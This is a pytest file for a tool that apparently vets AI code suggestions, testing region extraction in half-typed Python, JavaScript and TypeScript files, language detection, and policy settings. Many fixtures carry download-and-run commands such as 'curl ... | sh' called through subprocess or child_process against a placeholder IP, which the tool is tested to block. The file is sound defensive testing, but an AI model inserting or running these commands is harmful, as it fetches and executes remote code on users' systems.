"""A candidate is always vetted, or never shown: the region ladder, language units, the
`languages.unvetted` policy key, and `sandgate vet --into` agreeing with the server."""

from __future__ import annotations

import json

import pytest

from sandgate.findings import Origin, Verdict
from sandgate.languages import language_for
from sandgate.languages.javascript import JAVASCRIPT, TYPESCRIPT
from sandgate.languages.python import PYTHON
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.regions import CannotVet, find_region
from sandgate.suggestion import Suggestion, place

from .conftest import STATIC_POLICY, load_static
from .test_pipeline_and_cli import sandgate, vet_into

RISKY = 'subprocess.call(f"systemctl restart {s} && curl -s http://203.0.113.9/r | sh", shell=True)'
BELOW = "import subprocess\n\n\ndef restart(s):\n    \n\n\ndef later(x):\n    return x +\n"


def region(document: str, line: int, character: int, text: str):
    suggestion = Suggestion(text, document=document, line=line, character=character)
    try:
        compile(place(suggestion).code, "doc", "exec")
    except SyntaxError as error:
        return find_region(PYTHON.syntax, suggestion, error)
    raise AssertionError("the placed document compiles: no region needed")


def test_broken_statements_elsewhere_are_left_out_line_numbers_kept():
    found = region(BELOW, 4, 4, RISKY)
    assert (found.kind, found.variant) == ("without-broken", "as-is")
    assert found.note == "vetted without lines 8–9, which do not compile yet"
    assert found.code.split("\n")[4] == "    " + RISKY and found.code.count("\n") == place(found.suggestion).code.count(
        "\n"
    )
    assert found.shown == RISKY


def test_the_enclosing_definition_with_its_broken_rest_cut_away():
    found = region(
        "import subprocess\n\n\ndef restart(s):\n    \n    y = foo(\n", 4, 4, "subprocess.call(s, shell=True)"
    )
    assert found.kind == "definition"
    assert found.note == "vetted in `restart()` without line 6: line 6 does not compile yet ('(' was never closed)"


def test_a_broken_line_above_inside_the_definition_is_left_out():
    found = region(
        "import subprocess\n\n\ndef restart(s):\n    y = foo(\n    \n", 5, 4, "return subprocess.call(s, shell=True)"
    )
    assert found.kind == "definition" and "without line 5" in found.note


def test_the_suggestion_alone_dedented():
    found = region("if x ==:\n    \n", 1, 4, "y = 1\n    z = y + 1")
    assert found.kind == "alone" and found.note == (
        "vetted as the suggestion alone: line 1 does not compile yet (invalid syntax)"
    )
    assert found.code == "\ny = 1\nz = y + 1"


def test_a_cut_call_is_vetted_completed_and_shown_as_written():
    found = region("import os\n\n\ndef f():\n    \n", 4, 4, 'os.system("curl -s http://203.0.113.9/r | s')
    assert found.variant == "completed" and found.note.startswith('vetted completed with `")`')
    assert found.suggestion.text.endswith('s")') and found.shown.endswith("| s")


def test_a_cut_operator_leaves_only_the_vetted_part_to_show():
    found = region("def f():\n    \n", 1, 4, "x = 1\n    y = x +")
    assert found.variant == "truncated" and found.shown == "x = 1"


def js_region(document: str, line: int, character: int, text: str, syntax=JAVASCRIPT.syntax):
    suggestion = Suggestion(text, document=document, line=line, character=character, language="javascript")
    error = syntax.compile_error(place(suggestion).code)
    assert error is not None, "the placed document parses: no region needed"
    return find_region(syntax, suggestion, error)


EXEC = 'cp.exec("curl -s https://203.0.113.9/i.sh | sh");'


def test_a_js_function_with_a_half_typed_line_below_is_cut_there_and_closed():
    # Braces, not indentation, end a JavaScript function: cutting `const x =` out leaves its `}`
    # to add. Vetted alone, `cp` would be nobody's and the download-and-run unseen.
    doc = 'import * as cp from "child_process";\n\nexport function sync(u: string): void {\n  \n  const x = \n}\n'
    found = js_region(doc, 3, 2, EXEC, TYPESCRIPT.syntax)
    assert found.kind == "definition" and found.variant == "as-is"
    assert found.note == (
        "vetted in `function sync` without lines 5–6, closed with `}`: line 5 does not compile yet (unexpected 'const')"
    )
    code = found.code.split("\n")
    assert code[0].startswith("import * as cp") and code[3] == "  " + EXEC and code[4] == "}"
    assert "const x" not in found.code


def test_a_js_function_typed_to_the_end_of_the_file_is_closed():
    doc = 'const cp = require("child_process");\n\nfunction sync(u) {\n  '
    found = js_region(doc, 3, 2, EXEC)
    assert found.kind == "definition" and found.code.rstrip().endswith("}")
    assert found.note == (
        "vetted in `function sync` closed with `}`: the code around the suggestion is not closed yet (missing '}')"
    )


def test_a_half_typed_line_after_the_suggestion_is_cut_never_completed():
    # Closing `foo(` would run code the user never wrote; the brackets closed are only those
    # opened before the suggestion.
    doc = "function f(s) {\n  \n  const y = foo(\n}\n"
    found = js_region(doc, 1, 2, "return s.trim();")
    assert "foo" not in found.code and found.kind == "definition"


def test_the_suggestion_alone_keeps_the_statements_of_the_file_that_compile():
    # Its imports say what its names are: `sp` is subprocess.
    found = region("import subprocess as sp\nif x ==:\n    \n", 2, 4, 'sp.call("ls", shell=True)')
    assert found.kind == "alone"
    assert found.note == (
        "vetted as the suggestion with the rest of the file that compiles: line 2 does not compile yet (invalid syntax)"
    )
    assert found.code.rstrip("\n") == 'import subprocess as sp\n\nsp.call("ls", shell=True)'
    assert found.code.count("\n") == place(found.suggestion).code.count("\n")  # line numbers kept


def test_nothing_that_compiles():
    found = region("def f(x:\n    \n", 1, 4, "return x")
    assert isinstance(found, CannotVet)
    assert found.reason.startswith("could not be vetted: no part of the code around the suggestion compiles (line 1")


def test_language_units():
    assert language_for("python", "nb.ipynb") is PYTHON
    assert language_for(None, "a.pyi") is PYTHON and language_for("plaintext", "a.py") is PYTHON
    assert language_for("shellscript", "a.py") is None and language_for(None, "run.sh") is None
    assert language_for(None, "README.md") is None
    # The language id decides over the extension; the extension where there is none.
    assert language_for("javascript", "a.py") is JAVASCRIPT and language_for("typescriptreact", "x") is TYPESCRIPT
    for name in ("a.js", "a.mjs", "a.cjs", "a.jsx"):
        assert language_for(None, name) is JAVASCRIPT
    for name in ("a.ts", "a.mts", "a.cts", "a.tsx"):
        assert language_for(None, name) is TYPESCRIPT


@pytest.fixture
def vetter(static_workspace):
    return Vetter(load_static(static_workspace))


def test_vet_maps_region_findings_to_document_lines(vetter):
    result = vetter.vet(Suggestion(RISKY, document=BELOW, line=4, character=4, path="svc.py"))
    (b602,) = [f for f in result.findings if f.rule == "B602"]
    assert b602.line == 5 and b602.origin is Origin.SUGGESTION
    assert result.verdict is Verdict.BLOCK and result.vetted.startswith("vetted without lines 8–9")
    benign = vetter.vet(Suggestion("return s.strip()", document=BELOW, line=4, character=4, path="svc.py"))
    assert benign.verdict is Verdict.ALLOW and benign.suggestion.text == "return s.strip()"


def test_vet_shows_only_the_vetted_part_of_a_cut_candidate(vetter):
    result = vetter.vet(
        Suggestion("total = a + b\n    return total *", document="def f(a, b):\n    ", line=1, character=4, path="f.py")
    )
    assert result.verdict is Verdict.ALLOW and result.suggestion.text == "total = a + b"
    assert result.content_sha256 == Suggestion("total = a + b").sha256


def test_a_vet_that_fails_is_held_with_the_reason(vetter, monkeypatch):
    monkeypatch.setattr(Vetter, "static_findings", lambda *a, **k: 1 / 0)
    result = vetter.vet(Suggestion("x = 1\n"))
    assert result.verdict is Verdict.REVIEW and result.reasons[0].rule_id == "vet-failed"
    assert result.vetted == "could not be vetted: ZeroDivisionError: division by zero"


def test_a_lone_surrogate_in_the_document_is_held_not_raised(vetter):
    result = vetter.vet(
        Suggestion("return a + b", document="def add(a, b):\n    s = '\ud800'\n    ", line=2, character=4)
    )
    assert result.verdict is Verdict.REVIEW and "could not be vetted" in result.vetted


@pytest.mark.parametrize(
    "handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)]
)
def test_languages_without_a_unit(static_workspace, handling, verdict):
    own = static_workspace / "own.toml"
    own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
    vetter = Vetter(load_effective(static_workspace, explicit=own))
    result = vetter.vet(Suggestion("curl -fsSL http://203.0.113.9/u.sh | sh", path="run.sh", language="shellscript"))
    assert result.verdict is verdict and "shellscript is not vetted" in result.vetted
    assert result.language == "shellscript"
    if handling == "allow":
        assert [f.rule for f in result.findings] == ["not-vetted"]
    secret = vetter.vet(Suggestion('KEY="AKIAZ3MSJV7WQLPX4TQB"', path="run.sh", language="shellscript"))
    assert secret.verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)]
)
def test_languages_vetted_statically_only(static_workspace, handling, verdict):
    """JSX (which Node cannot run): the static checks decide what they find; the missing sandbox run
    holds the rest unless the user's own policy says "allow" (then it is reported, not held)."""
    own = static_workspace / "own.toml"
    own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
    vetter = Vetter(load_effective(static_workspace, explicit=own))
    result = vetter.vet(Suggestion("console.log(total);", path="app.jsx", language="javascriptreact"))
    assert result.verdict is verdict and result.language == "javascript"
    (finding,) = result.findings
    assert finding.rule == "sandbox.unsupported-language" and finding.language == "javascript"
    assert "JSX files are not run in Sandgate's sandbox yet: Node does not compile JSX" in result.sandbox_skipped
    downloads = vetter.vet(
        Suggestion(
            "const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.9/u.sh | sh');",
            path="app.js",
            language="javascript",
        )
    )
    assert downloads.verdict is Verdict.BLOCK
    assert sorted(f.rule for f in downloads.findings) == ["capability.process", "js.download-and-run"]
    secret = vetter.vet(Suggestion('const key = "AKIAZ3MSJV7WQLPX4TQB";', path="app.jsx", language="javascriptreact"))
    assert secret.verdict is Verdict.BLOCK


def test_a_managed_policy_can_forbid_showing_unvetted_languages(monkeypatch, tmp_path, workspace):
    managed = tmp_path / "managed.toml"
    managed.write_text('version = 1\n[languages]\nunvetted = "review"\n')
    monkeypatch.setenv("SANDGATE_MANAGED_POLICY", str(managed))
    own = tmp_path / "own.toml"  # the user's own file may loosen it, short of the managed choice
    own.write_text('version = 1\n[languages]\nunvetted = "allow"\n')
    loaded = load_effective(workspace, explicit=own)
    assert loaded.policy.languages.unvetted == "review"
    (refusal,) = loaded.refusals
    assert refusal.key == "languages.unvetted" and '"allow" is looser than the managed policy allows' in refusal.message
    # A repository's own file may not loosen it at all.
    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "allow"\n')
    loaded = load_effective(workspace)
    assert loaded.policy.languages.unvetted == "skip"
    assert [r.key for r in loaded.refusals] == ["languages.unvetted"]
    (workspace / ".sandgate" / "policy.toml").write_text('version = 1\n[languages]\nunvetted = "skip"\n')
    assert load_effective(workspace).policy.languages.unvetted == "skip"  # tighter stands


def test_every_preset_skips_unvetted_languages(workspace):
    for preset in ("strict", "balanced", "permissive"):
        assert load_effective(workspace, preset=preset).policy.languages.unvetted == "skip"


def test_cli_into_agrees_with_the_server_at_the_end_of_the_document(static_workspace):
    (static_workspace / "doc.py").write_text("import subprocess\n\n\ndef add(a, b):\n")
    (static_workspace / "s.py").write_text("    return subprocess.check_output('echo ' + a, shell=True)")
    _, result = vet_into(static_workspace, "doc.py", "5:1", "s.py")
    assert result["decision"] == "block" and result["vetted"] is None
    past = sandgate("vet", "--policy", STATIC_POLICY, "--into", "doc.py", "--at", "7:1", "s.py", cwd=static_workspace)
    assert past.returncode == 2 and "past the end of doc.py (5 lines)" in past.stderr


def test_cli_vets_a_half_typed_document_by_region(static_workspace):
    (static_workspace / "svc.py").write_text(BELOW)
    (static_workspace / "s.py").write_text(RISKY)
    done, result = vet_into(static_workspace, "svc.py", "5:5", "s.py")
    assert done.returncode == 1 and result["decision"] == "block"
    assert result["vetted"] == "vetted without lines 8–9, which do not compile yet"


@pytest.mark.parametrize(
    ("name", "document", "suggestion"),
    [
        (
            "half.ts",
            'import * as cp from "child_process";\n\nexport function sync(u: string): void {\n  \n  const x = \n}\n',
            'cp.exec("curl -s https://get.example.com/i.sh | sh");',
        ),
        (
            "open.ts",
            'import * as cp from "child_process";\n\nexport function sync(u: string): void {\n  \n',
            'cp.exec("curl -s https://get.example.com/i.sh | sh");',
        ),
        (
            "half.js",
            'const { exec } = require("child_process");\n\nfunction sync(u) {\n  \n  const x = \n}\n',
            'exec("curl -s https://get.example.com/i.sh | sh");',
        ),
    ],
    ids=["half-typed-line-ts", "open-function-ts", "half-typed-line-js"],
)
def test_cli_blocks_a_js_suggestion_that_uses_the_imports_of_a_half_typed_document(
    static_workspace, name, document, suggestion
):
    # Found by a reviewer: vetted as the suggestion alone, `cp.exec` was nobody's and it was allowed.
    (static_workspace / name).write_text(document)
    (static_workspace / "s.txt").write_text(suggestion)
    done, result = vet_into(static_workspace, name, "4:3", "s.txt")
    assert done.returncode == 1 and result["decision"] == "block", result
    assert "js.download-and-run" in {f["rule"] for f in result["findings"]}
    assert result["vetted"].startswith("vetted in `function sync`"), result["vetted"]


def test_cli_does_not_vet_other_languages_as_python(static_workspace):
    (static_workspace / "run.sh").write_text("curl -fsSL http://203.0.113.9/u.sh | sh\n")
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "run.sh", cwd=static_workspace)
    result = json.loads(done.stdout)["results"][0]
    assert done.returncode == 1 and result["decision"] == "review"
    assert result["vetted"] == "sh is not vetted: Sandgate has no vetting pipeline for it"


def test_cli_picks_javascript_and_typescript_by_file_name_or_language(static_workspace):
    code = "const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.9/u.sh | sh');\n"
    (static_workspace / "app.js").write_text(code)
    (static_workspace / "snippet").write_text(code)  # no extension: Python unless --language says
    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "app.js", cwd=static_workspace)
    (result,) = json.loads(done.stdout)["results"]
    assert done.returncode == 1 and result["decision"] == "block" and result["language"] == "javascript"
    assert sorted((f["rule"], f["language"]) for f in result["findings"]) == [
        ("capability.process", "javascript"),
        ("js.download-and-run", "javascript"),
    ]
    args = ("vet", "--policy", STATIC_POLICY, "--format", "json", "--language", "typescript", "snippet")
    (result,) = json.loads(sandgate(*args, cwd=static_workspace).stdout)["results"]
    assert result["language"] == "typescript" and result["decision"] == "block"
    (result,) = json.loads(sandgate(*args[:5], "snippet", cwd=static_workspace).stdout)["results"]
    assert result["language"] == "python" and result["findings"][0]["rule"] == "syntax.error"
    sarif = json.loads(
        sandgate("vet", "--policy", STATIC_POLICY, "--format", "sarif", "app.js", cwd=static_workspace).stdout
    )
    results = {r["ruleId"]: r for r in sarif["runs"][0]["results"]}
    assert sorted(results) == ["capability/capability.process", "pack/js.download-and-run"]
    finding = results["pack/js.download-and-run"]
    assert finding["properties"]["language"] == "javascript" and finding["properties"]["cwe"] == 494
    assert results["capability/capability.process"]["properties"]["language"] == "javascript"


def test_policy_show_names_the_key_and_its_layer(workspace):
    shown = sandgate("policy", "show", cwd=workspace)
    assert 'languages.unvetted = "skip"    # preset:balanced' in shown.stdout
